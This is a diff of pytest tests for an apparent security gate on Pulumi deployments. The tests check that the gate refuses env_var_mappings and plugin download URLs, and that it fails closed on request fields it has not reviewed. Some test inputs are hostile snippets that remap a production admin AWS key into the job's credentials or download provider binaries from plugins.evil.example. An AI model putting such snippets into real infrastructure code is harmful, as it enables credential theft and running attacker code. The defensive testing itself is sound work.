@@ -712,3 +712,57 @@ def test_an_archive_beside_a_secret_is_judged_and_the_secret_stays_hidden(projec
     assert "s3cr3t-in-env" not in run.stdout + run.stderr + (project / "out.json").read_text()
     [fn] = [r for r in run.json("out.json")["resources"] if r["name"] == "fn"]
     assert fn["inputs"]["environment"] == {"variables": {"DB_PASSWORD": "[secret]"}}
+
+
+@pytest.mark.parametrize(("snippet", "message"), [
+    ("""
+        aws.Provider("swap", region="eu-west-1", opts=pulumi.ResourceOptions(env_var_mappings={
+            "PROD_ADMIN_AWS_ACCESS_KEY_ID": "AWS_ACCESS_KEY_ID", "CORP_PROXY": "HTTPS_PROXY"}))
+     """, "pulumi:providers:aws 'swap' sets envVarMappings"),
+    ("""
+        aws.s3.Bucket("data", opts=pulumi.ResourceOptions(version="7.99.0",
+                                                         plugin_download_url="https://plugins.evil.example/pulumi/"))
+     """, "aws:s3/bucket:Bucket 'data' sets pluginDownloadURL"),
+    ("""
+        aws.s3.Bucket.get("seen", "seen", opts=pulumi.ResourceOptions(plugin_download_url="https://plugins.evil.example/"))
+     """, "aws:s3/bucket:Bucket 'seen' (read) sets pluginDownloadURL"),
+    ("""
+        from pulumi.runtime.proto import resource_pb2 as _pb
+        from pulumi.runtime.settings import get_monitor as _monitor
+        _monitor().RegisterPackage(_pb.RegisterPackageRequest(name="terraform-provider", version="0.99.0",
+                                                              download_url="https://plugins.evil.example/pulumi/"))
+     """, "registers package terraform-provider@0.99.0 with a download URL"),
+])
+def test_request_fields_that_change_what_pulumi_up_runs_get_no_verdict(project: Path, snippet: str, message: str) -> None:
+    """red18 r18-1, r18-5: env_var_mappings and plugin downloads were fields the gate never read (PASS, while `pulumi
+    up` would take another credential from the job's environment, or run a provider binary from the PR's URL)."""
+    write_program(project, extra=textwrap.dedent(snippet))
+    run = run_cli(project, *GUARD)
+    assert run.code == 2 and message in run.stdout, run.stdout
+
+
+def test_a_request_field_the_gate_has_not_reviewed_fails_closed() -> None:
+    """A field a newer SDK sets that the gate has not reviewed stops the run instead of passing unread; every field
+    the installed SDK's requests have is either reviewed or refused (so this SDK's programs are judged)."""
+    from pulumi.runtime.proto import resource_pb2
+
+    from agentid.preview.monitor import REFUSED_FIELDS, REVIEWED_FIELDS, unreviewed_fields
+
+    for kind, reviewed in REVIEWED_FIELDS.items():
+        fields = {f.name for f in getattr(resource_pb2, kind).DESCRIPTOR.fields}
+        assert fields <= reviewed | set(REFUSED_FIELDS), (kind, sorted(fields - reviewed - set(REFUSED_FIELDS)))
+    request = resource_pb2.RegisterResourceRequest(type="aws:s3/bucket:Bucket", name="b", snippetId="x")
+    assert unreviewed_fields(request) == []
+    request.envVarMappings["A"] = "AWS_ACCESS_KEY_ID"
+    [problem] = unreviewed_fields(request)
+    assert problem.startswith("sets envVarMappings: it maps environment variables")
+    pruned = {kind: reviewed - {"snippetId"} for kind, reviewed in REVIEWED_FIELDS.items()}
+    import agentid.preview.monitor as monitor
+    original = monitor.REVIEWED_FIELDS
+    try:
+        monitor.REVIEWED_FIELDS = pruned
+        assert unreviewed_fields(resource_pb2.RegisterResourceRequest(snippetId="x")) == [
+            "sets snippetId, a RegisterResourceRequest field this gate has not reviewed (what it changes at "
+            "`pulumi up` cannot be judged)"]
+    finally:
+        monitor.REVIEWED_FIELDS = original
